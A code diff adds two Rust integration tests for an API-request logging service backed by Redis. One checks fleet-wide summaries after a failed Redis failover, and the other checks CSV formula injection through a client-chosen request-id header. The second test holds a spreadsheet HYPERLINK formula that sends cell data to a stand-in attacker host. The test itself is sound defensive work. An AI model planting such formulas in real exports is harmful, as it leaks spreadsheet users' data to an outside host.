@@ -83,3 +83,48 @@ async fn a_late_batch_of_older_rows_does_not_push_newer_rows_out_of_the_10000() 
         items.iter().filter(|r| !r["requestId"].as_str().unwrap().starts_with("b-")).collect();
     assert!(ours.is_empty(), "an older row replaced one of the 10,000 newest: {ours:?}");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "review 10, not fixed: a fleet answer does not say this instance's records are missing from it"]
+async fn a_fleet_answer_does_not_hide_that_this_instances_records_cannot_be_written() {
+    // A Redis turned replica (a failover gone wrong) refuses every write and still answers
+    // reads from what it holds: this instance's flushes fail, and its own answers say
+    // "fleet-wide" with its newest records missing, though it knows how many it holds back.
+    let redis = RedisServer::start();
+    let a = instance(&redis, "a").start().await;
+    with_mfa(&a, 1).await;
+    until("flushed", || async { sample(&a, PENDING).await == 0.0 && summary(&a).await.1["fleet"] == true })
+        .await;
+    assert_eq!(redis.command(&["REPLICAOF", "127.0.0.1", "1"]).unwrap(), "+OK");
+    with_mfa(&a, 1).await;
+    until("a failed flush", || async { sample(&a, FAILED_FLUSHES).await >= 1.0 }).await;
+    let (v, scope) = summary(&a).await;
+    let logs = from_logs(&[&a]);
+    assert_eq!(logs.totals.api_app_user, 2);
+    assert!(
+        scope["fleet"] != true || v["api"]["app_user_requests"] == logs.totals.api_app_user,
+        "claims the fleet's numbers without this instance's unsent record: {v} {scope}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_client_chosen_request_id_is_not_a_formula_in_the_csv_export() {
+    // `MS-RequestId` is the client's (any printable ASCII up to 128 bytes) and becomes the
+    // `RequestId` cell of "All API requests", a file made to be opened in a spreadsheet. Read back
+    // from Redis, it is also what any writer to the shared store put there.
+    let redis = RedisServer::start();
+    let a = instance(&redis, "a").start().await;
+    let token = a.token(|_| {});
+    let formula = r#"=HYPERLINK("http://evil.test/?"&B2,"open")"#;
+    let req =
+        a.request("/v1/x", Some(&token)).header("ms-requestid", formula).body(Default::default()).unwrap();
+    assert_eq!(a.send(req).await.status, http::StatusCode::OK);
+    until("flushed", || async { sample(&a, PENDING).await == 0.0 && summary(&a).await.1["fleet"] == true })
+        .await;
+    let csv = a.admin_get("/exports/all_api_requests.csv").await.body;
+    assert!(csv.contains("HYPERLINK"), "{csv}");
+    for cell in csv.lines().flat_map(|l| l.split(',')) {
+        let cell = cell.trim_start_matches('"');
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "a spreadsheet formula in the export: {csv}");
+    }
+}
